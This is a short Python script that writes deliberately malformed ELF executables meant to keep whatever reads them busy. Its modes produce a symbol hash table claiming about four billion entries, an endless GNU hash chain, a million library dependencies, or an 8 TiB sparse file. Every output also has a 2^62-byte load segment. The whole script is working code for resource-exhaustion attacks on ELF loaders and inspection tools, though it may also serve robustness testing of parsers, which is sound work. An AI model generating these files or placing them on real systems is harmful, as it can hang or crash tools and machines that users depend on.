"""Writes an ELF file that means to keep its reader busy. Usage: hostile.py symbols|chain|needed|sparse FILE"""
import os
import struct
import sys

NEEDED, HASH, STRINGS, SYMBOLS, GNU_HASH = 1, 4, 5, 6, 0x6FFFFEF5
INTERPRETER = b"/lib64/ld-linux-x86-64.so.2\0"
ENDLESS = 1 << 62
HUGE = 1 << 43  # what ext4 and tmpfs still take as a sparse file
damage, path = sys.argv[1:]

tables = {
    "symbols": [(HASH, 0x800)],  # a table that tells of 2^32 - 1 symbols
    "chain": [(GNU_HASH, 0x800)],  # a chain of hashes that never ends
    "needed": [(NEEDED, 1)] * 1000000,
    "sparse": [],
}
dynamic = [(STRINGS, 0x400), (SYMBOLS, 0x600)] + tables[damage]
body = b"".join(struct.pack("<qQ", *entry) for entry in dynamic) + bytes(16)
words = {"symbols": [1, 0xFFFFFFFF], "chain": [1, 1, 1, 0, 0, 0, 5]}.get(damage, [])


def segment(kind, at, size):
    return struct.pack("<IIQQQQQQ", kind, 5, at, at, 0, size, size, 8)


head = b"\x7fELF\2\1\1" + bytes(9) + struct.pack("<HHIQQQIHHHHHH", 3, 62, 1, 0, 64, 0, 0, 64, 56, 3, 0, 0, 0)
head += segment(1, 0, ENDLESS) + segment(3, 0x300, len(INTERPRETER)) + segment(2, 0x1000, len(body))
with open(path, "wb") as file:
    for at, piece in (0, head), (0x300, INTERPRETER), (0x800, struct.pack(f"<{len(words)}I", *words)), (0x1000, body):
        file.seek(at)
        file.write(piece)
    if damage in ("chain", "sparse"):
        file.truncate(HUGE)
os.chmod(path, 0o755)
